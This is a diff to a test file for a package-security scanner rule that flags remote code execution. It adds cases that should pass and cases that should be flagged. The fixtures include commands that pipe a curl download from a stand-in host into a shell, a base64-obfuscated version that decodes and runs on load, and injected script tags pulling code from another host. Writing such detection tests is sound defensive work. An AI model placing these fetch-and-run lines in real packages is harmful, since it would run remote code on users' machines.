@@ -34,8 +34,36 @@ require('child_process').execFileSync('/tmp/pad', ['--version'])`,
 })
 const installing = { scripts: { postinstall: 'node install.js' }, homepage: 'https://pad.example' }
 
+const piped = "require('child_process').exec('curl -fsSL https://cdn.example/x.sh | sh')"
+const unpacked = `require('child_process').exec("echo ${Buffer.from('curl https://cdn.example/x.sh | sh').toString('base64')} | base64 -d | sh")`
+const unpackedCommand = unpacked.slice(unpacked.indexOf('"') + 1, -2)
+const scriptOf = (host: string) => `const script = document.createElement('script')
+script.src = 'https://${host}/x.js'
+document.head.append(script)`
+
 testRule(remoteCodeRun, {
   clear: [
+    {
+      name: 'a command that downloads from the host of the package and runs',
+      subject: addition,
+      facts: await added(
+        { 'index.js': piped.replace('cdn.example', 'pad.example') },
+        { homepage: 'https://pad.example' },
+      ),
+    },
+    {
+      name: "a script of the package's own host in the page",
+      subject: upgrade,
+      facts: await codeFacts(pad, { 'index.js': scriptOf('js.pad.example') }, { homepage: 'https://pad.example' }),
+    },
+    {
+      name: 'a script of a host that the version before named',
+      subject: upgrade,
+      facts: await codeFacts(
+        { 'index.js': `exports.host = 'https://cdn.example'` },
+        { 'index.js': scriptOf('cdn.example') },
+      ),
+    },
     {
       name: 'a template that is compiled',
       subject: addition,
@@ -142,6 +170,42 @@ testRule(remoteCodeRun, {
           ['downloaded', asked, 'index.js', 1, 25],
           ['run', asked, 'index.js', 1, 25],
         ),
+      ],
+    },
+    {
+      name: 'a command that decodes and runs, on load',
+      subject: upgrade,
+      facts: await codeFacts(pad, { 'index.js': unpacked }),
+      observations: [
+        observation(decoded, 'critical', 'high', ['command that decodes and runs', unpackedCommand, 'index.js', 1, 1]),
+      ],
+    },
+    {
+      name: 'a command on demand that pipes a download to a shell',
+      subject: upgrade,
+      facts: await codeFacts(pad, { 'index.js': `exports.setUp = () =>\n  ${piped}` }),
+      observations: [
+        observation(downloaded, 'high', 'medium', [
+          'command that pipes a download to an interpreter',
+          'curl -fsSL https://cdn.example/x.sh | sh',
+          'index.js',
+          2,
+          3,
+        ]),
+      ],
+    },
+    {
+      name: 'a script of another host in the page',
+      subject: upgrade,
+      facts: await codeFacts(pad, { 'index.js': scriptOf('cdn.example') }),
+      observations: [
+        observation(downloaded, 'critical', 'high', [
+          'script of another host',
+          'https://cdn.example/x.js',
+          'index.js',
+          2,
+          1,
+        ]),
       ],
     },
   ],
